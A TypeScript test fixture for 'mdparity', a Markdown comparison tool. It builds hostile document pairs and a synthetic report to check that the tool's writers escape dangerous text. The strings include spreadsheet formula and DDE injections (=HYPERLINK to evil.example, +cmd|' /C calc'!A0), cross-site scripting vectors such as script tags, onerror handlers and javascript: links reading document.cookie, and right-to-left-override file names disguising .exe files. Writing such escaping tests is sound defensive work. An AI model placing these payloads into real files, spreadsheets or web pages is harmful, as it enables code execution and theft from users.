/**
 * Hostile inputs for the writers: a document pair built to break out of every
 * format (markup, formulas, bidi overrides, lone surrogates, odd file names),
 * and a hand-made report whose every string is hostile, so each writer meets
 * the dangerous text in every field whatever the checks happen to report.
 */
import { readFileSync } from 'node:fs';
import { compare, type Report } from '../../src/core/index.js';
import { fnv1a64 } from '../../src/core/fingerprint.js';

export const seed = {
  leftPath: 'seeds/smo.is.md',
  rightPath: 'seeds/smo.no.md',
  leftText: readFileSync('seeds/smo.is.md', 'utf8'),
  rightText: readFileSync('seeds/smo.no.md', 'utf8'),
};
export const seedReport = compare(seed.leftText, seed.rightText, { leftPath: seed.leftPath, rightPath: seed.rightPath });

const loneSurrogate = '\uD800';
const rlo = '\u202E';

export const hostile = {
  leftPath: 'docs/my guide #1 100% Þórður.is.md',
  rightPath: `docs/my guide #1 100% "Þórður" <b>'x'.ar.md`,
  leftText: [
    '---',
    'title: "=HYPERLINK(""http://evil.example"",""x"")"',
    '---',
    '',
    '# =HYPERLINK("http://evil.example/?q="&A1,"click")',
    '',
    '<script>alert("left")</script>',
    '',
    'Text with <img src=x onerror=alert(1)> and [a link](javascript:alert(1)) and </script><script>alert(2)</script> too.',
    '',
    '## +1 plus',
    '',
    '+1',
    '',
    '-2',
    '',
    '@SUM(A1:A2)',
    '',
    '＝1+1',
    '',
    '| a | b |',
    '|---|---|',
    '| `|` pipe | ``code ` tick`` |',
    '',
    `## ${rlo}evil heading`,
    '',
    `Lone surrogate ${loneSurrogate} and RLO ${rlo}cod.exe here, [x](https://example.com/a|b).`,
    '',
    '- item one',
    '- item two',
    '',
  ].join('\n'),
  rightText: [
    '---',
    'title: "+cmd|\' /C calc\'!A0"',
    '---',
    '',
    '## =HYPERLINK("http://evil.example/?q="&A1,"click")',
    '',
    '<img src=x onerror="alert(\'right\')">',
    '',
    'نص مع <svg onload=alert(1)> و [رابط](javascript:alert(document.cookie)) و </script> هنا. [two](https://example.com/two)',
    '',
    "##@SUM(1+1)*cmd|' /C calc'!A0",
    '',
    '-2',
    '',
    '＝1+1',
    '',
    `## ${rlo}heading "quoted" & <b>bold</b>`,
    '',
    `Lone surrogate ${loneSurrogate} and RLO ${rlo}cod.exe here, [x](javascript:alert(3)).`,
    '',
    '– item one',
    '',
    '– item two',
    '',
  ].join('\n'),
};
export const hostileReport = compare(hostile.leftText, hostile.rightText, { leftPath: hostile.leftPath, rightPath: hostile.rightPath });

/** Cells a spreadsheet would run as formulas, and text that breaks out of markup. */
export const dangerous = [
  '=HYPERLINK("http://evil.example","click")',
  '+1',
  '-2',
  '@SUM(A1:A2)',
  '=1\n2',
  '\n=1+1',
  ' =1+1',
  '\t=1',
  '\r=1',
  '＝1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '<script>alert(1)</script>',
  '</script><script>alert(2)</script>',
  '<img src=x onerror=alert(3)>',
  '[click](javascript:alert(4))',
  '<javascript:alert(5)>',
  '"><svg onload=alert(6)>',
  "'><b onmouseover=alert(7)>x</b>",
  'pipe | and `backtick` and ``double``',
  `${rlo}exe.txt`,
  `lone ${loneSurrogate} surrogate`,
  '\u0000nul\u0007bel\u001Besc\u0085nel\uFFFEnon',
  ']]><!-- --><![CDATA[x]]>',
  '&amp; &lt; &#x3C;script&#x3E;',
];

/** A report whose every string is hostile: messages, titles, paths, check ids, languages. */
export function syntheticReport(): { report: Report; leftText: string; rightText: string } {
  const lines = dangerous.flatMap((text) => text.split(/\r\n|\r|\n/));
  const text = lines.join('\n');
  const report: Report = {
    schemaVersion: '1.0',
    tool: { name: 'mdparity', version: '0.1.0' },
    left: { path: '=cmd|\' /C calc\'!A0 #1 100% Þórður "q".md', language: 'is', lines: lines.length, blocks: dangerous.length },
    right: { path: `dir with space/${rlo}gpj.exe <script>"'.ar.md`, language: 'ar', lines: lines.length, blocks: dangerous.length },
    summary: { error: 0, warning: 0, info: 0, findings: 0, rows: 0, paired: 0, leftOnly: 0, rightOnly: 0, parity: 0.5, uncertain: 0, checks: {} },
    findings: [],
    alignment: [],
    sections: [{ left: null, right: null }],
  };
  const severities = ['error', 'warning', 'info'] as const;
  dangerous.forEach((message, index) => {
    report.sections.push({
      left: { line: index + 1, title: message, depth: 2 },
      right: index % 3 === 0 ? null : { line: index + 1, title: dangerous[(index + 1) % dangerous.length]!, depth: 2 },
    });
    report.alignment.push({
      left: { line: index + 1, endLine: index + 1, kind: 'heading' },
      right: index % 3 === 0 ? null : { line: index + 1, endLine: index + 1, kind: 'paragraph' },
      confidence: index % 3 === 0 ? 0 : 0.4,
      section: index + 1,
    });
    report.findings.push({
      fingerprint: fnv1a64(message),
      check: index === 3 ? 'not-a-registered-check' : 'missing-block',
      severity: severities[index % 3]!,
      message,
      left: { line: index + 1, column: 1, endLine: index + 2, endColumn: 4 },
      right: index % 3 === 0 ? null : { line: index + 1, column: 2, endLine: index + 1, endColumn: 9 },
      row: index,
      section: index + 1,
    });
  });
  // A finding about the files as a whole, with no location at all.
  report.findings.push({
    fingerprint: fnv1a64('file-level'),
    check: 'frontmatter-syntax',
    severity: 'warning',
    message: '=2+2 file-level',
    left: null,
    right: null,
    row: null,
    section: 0,
  });
  for (const finding of report.findings) {
    report.summary[finding.severity]++;
    report.summary.checks[finding.check] = (report.summary.checks[finding.check] ?? 0) + 1;
  }
  report.summary.findings = report.findings.length;
  report.summary.rows = report.alignment.length;
  return { report, leftText: text, rightText: text };
}
